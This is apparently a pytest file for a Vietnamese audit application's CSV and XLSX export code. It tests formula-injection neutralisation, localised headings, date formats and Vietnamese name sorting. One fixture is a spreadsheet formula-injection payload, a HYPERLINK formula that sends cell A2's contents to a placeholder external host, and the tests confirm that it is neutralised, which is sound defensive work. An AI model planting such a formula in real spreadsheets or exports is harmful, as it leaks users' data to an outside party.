"""The one export mechanism (services/runtime/exports.py): the same rows as CSV and XLSX, safe to
open (no text becomes a formula, no control character breaks the file), dates in the ward's
local time, headings in the caller's language; and people in Vietnamese order
(services/runtime/collation.py)."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from contracts.common import Text
from services.assessment.views import exports as assessment_exports
from services.assessment.views import report
from services.runtime.collation import by_name, name_parts
from services.runtime.exports import (
    HEADINGS,
    NEUTRALISER,
    Column,
    Sheet,
    columns,
    read_headings,
    to_csv,
    to_xlsx,
)
from services.scoring.views import exports as scoring_exports

#: The issue's cases, as typed.
HYPERLINK = '=HYPERLINK("http://example.invalid/?d="&A2,"Xem minh chứng")'
CLOSING = "== chưa đạt =="


def heading(key: str, vi: str, en: str) -> Column:
    return Column(key, Text(vi=vi, en=en))


SHEET = Sheet(
    Text(vi="Phiếu đánh giá 5S", en="5S audits"),
    (
        heading("note", "Ghi chú", "Note"),
        heading("points", "Điểm", "Points"),
        heading("at", "Thời điểm", "At"),
        heading("due", "Hạn", "Due"),
        heading("band", "Xếp loại", "Band"),
    ),
    [
        {
            "note": HYPERLINK,
            "points": -5,
            "at": datetime(2026, 3, 5, 2, 30, tzinfo=UTC),
            "due": date(2026, 3, 20),
            "band": Text(vi="Hoàn thành tốt nhiệm vụ", en="Completed duties well"),
        },
        {"note": CLOSING, "points": Decimal("-1.5")},
        {"note": "+84 909 000 000"},
        {"note": "@admin"},
        {"note": "\tTab"},
        {"note": "\rCR"},
        {"note": "-5 điểm vì tủ hồ sơ"},
        {"note": "Dòng 1\r\nDòng 2\x00\x1b\x0c hết"},
        {"note": "Bình thường"},
    ],
)


def read_csv(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf")  # Excel reads the diacritics by it
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def test_csv_neutralises_every_text_a_spreadsheet_would_run() -> None:
    rows = read_csv(to_csv(SHEET))
    assert rows[0] == ["Ghi chú", "Điểm", "Thời điểm", "Hạn", "Xếp loại"]
    notes = [row[0] for row in rows[1:]]
    assert notes == [
        "'" + HYPERLINK,
        "'" + CLOSING,
        "'+84 909 000 000",
        "'@admin",
        "'\tTab",
        "'\nCR",
        "'-5 điểm vì tủ hồ sơ",
        "Dòng 1\nDòng 2 hết",
        "Bình thường",
    ]
    # The apostrophe is the one mark added: without it, the typed text exactly.
    assert notes[0].removeprefix(NEUTRALISER) == HYPERLINK
    assert notes[1].removeprefix(NEUTRALISER) == CLOSING
    # Numbers stay numbers, negative ones too; times in Vietnam time, dates dd/mm/yyyy.
    assert rows[1][1:] == ["-5", "05/03/2026 09:30", "20/03/2026", "Hoàn thành tốt nhiệm vụ"]
    assert rows[2][1] == "-1.5"


def test_xlsx_writes_texts_as_text_never_as_formulas() -> None:
    content = to_xlsx(SHEET)
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        sheet_xml = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet.title == "Phiếu đánh giá 5S"
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert cells[0].value == HYPERLINK and cells[0].data_type == "s"
    assert cells[1].value == CLOSING and cells[1].data_type == "s"
    assert cells[0].quotePrefix and cells[1].quotePrefix and not cells[8].quotePrefix
    assert [c.value for c in cells[2:]] == [
        "+84 909 000 000",
        "@admin",
        "\tTab",
        "\nCR",
        "-5 điểm vì tủ hồ sơ",
        "Dòng 1\nDòng 2 hết",
        "Bình thường",
    ]
    first = [c for c in next(sheet.iter_rows(min_row=2, max_row=2))]
    assert first[1].value == -5 and first[1].data_type == "n"
    assert first[2].value == datetime(2026, 3, 5, 9, 30) and first[2].is_date
    assert first[2].number_format == "dd/mm/yyyy hh:mm"
    assert first[3].value == datetime(2026, 3, 20) and first[3].number_format == "dd/mm/yyyy"
    assert sheet.cell(row=3, column=2).value == -1.5


def test_headings_and_labels_in_english_by_choice() -> None:
    rows = read_csv(to_csv(SHEET, "en"))
    assert rows[0] == ["Note", "Points", "At", "Due", "Band"]
    assert rows[1][4] == "Completed duties well"
    assert load_workbook(io.BytesIO(to_xlsx(SHEET, "en"))).active.title == "5S audits"


def test_people_in_vietnamese_order_given_then_family_then_middle_name() -> None:
    assert name_parts("Nguyễn Thị Ánh Tuyết") == ("Tuyết", "Nguyễn", "Thị Ánh")
    names = [
        "Trần Văn Ân",
        "Nguyễn Thị Ánh Tuyết",
        "Lê An",
        "Phạm Ăn",
        "Đỗ Bình",
        "Nguyễn Văn An",
        "Nguyễn Thị An",
        "Dương Đức",
        "Đặng Dũng",
        "Ngô Thị Ấn",
        "Lý Uyên",
        "Hồ Ư",
    ]
    # a < ă < â, d < đ, u < ư; tones after the bare letter; same given name: by family name
    # (Lê < Nguyễn), then by middle name (Thị < Văn).
    assert by_name(names, lambda name: name) == [
        "Lê An",
        "Nguyễn Thị An",
        "Nguyễn Văn An",
        "Phạm Ăn",
        "Trần Văn Ân",
        "Ngô Thị Ấn",
        "Đỗ Bình",
        "Đặng Dũng",
        "Dương Đức",
        "Nguyễn Thị Ánh Tuyết",
        "Lý Uyên",
        "Hồ Ư",
    ]


def test_a_long_sheet_name_is_cut_between_letters() -> None:
    # Excel allows 31 characters in a sheet's name; a letter keeps its marks.
    title = "Kết quả đánh giá 5S các đơn vị quý I/2026"
    sheet = Sheet(Text(vi=title, en="x"), (heading("a", "A", "A"),), [])
    name = load_workbook(io.BytesIO(to_xlsx(sheet))).active.title
    assert name == "Kết quả đánh giá 5S các đơn vị "[:31] and "/" not in name


def test_semicolons_and_decimal_commas_for_vietnamese_number_formats() -> None:
    content = to_csv(SHEET, separator=";")
    table = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert table[0] == ["Ghi chú", "Điểm", "Thời điểm", "Hạn", "Xếp loại"]
    assert table[1] == [
        "'" + HYPERLINK,
        "-5",
        "05/03/2026 09:30",
        "20/03/2026",
        "Hoàn thành tốt nhiệm vụ",
    ]
    assert table[2][:2] == ["'" + CLOSING, "-1,5"]


#: Every sheet the services export, and the period report's.
SHEETS = {
    "audits": assessment_exports.AUDIT_COLUMNS,
    "corrective actions": assessment_exports.ACTION_COLUMNS,
    "period report": report.COLUMNS,
    "classification": scoring_exports.CLASSIFICATION_COLUMNS,
    "units": scoring_exports.UNIT_COLUMNS,
    "satisfaction": scoring_exports.SATISFACTION_COLUMNS,
}


def test_a_sheet_names_its_columns_by_the_headings_catalogue() -> None:
    made = heading("S1_percent", "S1 (%)", "S1 (%)")
    assert columns("unit", made, "period") == (
        heading("unit", "Đơn vị", "Unit"),
        made,
        heading("period", "Kỳ", "Period"),
    )
    # Every heading of the catalogue is a sheet's, and a sheet shows a key once.
    shown = [column.key for sheet in SHEETS.values() for column in sheet]
    assert set(HEADINGS) <= set(shown)
    assert all(len({c.key for c in sheet}) == len(sheet) for sheet in SHEETS.values())


def test_a_column_without_a_heading_is_refused_when_its_sheet_is_made() -> None:
    with pytest.raises(ValueError, match="no heading for the columns scor, notes"):
        columns("unit", "scor", "period", "notes")


def test_the_catalogue_holds_two_texts_a_heading_each_written_once(tmp_path: Path) -> None:
    lacking = tmp_path / "headings.yaml"
    lacking.write_text('unit: ["Đơn vị", "Unit"]\nperiod: ["Kỳ"]\n', encoding="utf-8")
    with pytest.raises(ValueError, match="period needs \\[Vietnamese, English\\]"):
        read_headings(lacking)
    twice = tmp_path / "twice.yaml"
    twice.write_text('unit: ["Đơn vị", "Unit"]\nunit_name: ["Đơn vị", "Unit"]\n', "utf-8")
    with pytest.raises(ValueError, match="unit_name is the heading of unit"):
        read_headings(twice)
    assert read_headings(Path(__file__).parents[2] / "services/runtime/headings.yaml") == HEADINGS
